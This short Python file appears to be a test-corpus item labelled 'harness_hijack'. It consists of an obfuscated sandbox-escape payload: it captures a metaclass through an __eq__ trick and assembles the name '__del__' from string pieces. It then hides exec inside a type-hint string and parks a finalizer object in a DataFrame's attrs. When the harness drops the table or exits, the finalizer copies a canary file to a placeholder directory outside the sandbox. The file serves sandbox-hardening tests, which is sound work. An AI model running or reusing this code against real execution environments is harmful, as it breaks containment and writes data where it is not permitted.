# class: harness_hijack
# technique: an object of a class made with the captured metaclass with a run-time __del__, parked in df.attrs: it runs when the harness drops the table or the interpreter exits (E19)
# goal: write
import typing

import numpy as np
import pandas as pd


class Grab:
    """Records whatever it is compared with."""

    def __eq__(self, other):
        grabbed.append(other)
        return False

    def __hash__(self):
        return 0


grabbed = []
Grab() == type(int)
make = grabbed[0]
scope = {"target": "{{OUTSIDE_DIR}}/anyplot-escape-late", "path": "{{CANARY_FILE}}"}
source = "open(target, 'w').write(open(path).read())"


def late(x: "[exec(source, scope), int][-1]"):
    return x


Finalizer = make("Finalizer", (), {"_" * 2 + "del" + "_" * 2: lambda self: typing.get_type_hints(late)})
df = pd.DataFrame({"x": np.arange(3)})
df.attrs["finalizer"] = Finalizer()
